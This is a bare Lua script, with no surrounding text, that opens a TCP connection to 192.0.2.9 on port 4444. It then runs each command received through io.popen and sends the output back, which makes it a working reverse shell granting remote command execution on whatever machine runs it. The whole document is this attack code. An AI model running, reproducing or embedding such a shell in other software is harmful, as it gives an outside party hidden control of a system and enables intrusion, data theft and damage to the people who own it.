local socket = require("socket")
local peer = socket.connect("192.0.2.9", 4444)
while true do
  local line = peer:receive()
  local shell = io.popen(line, "r")
  peer:send(shell:read("*a"))
end
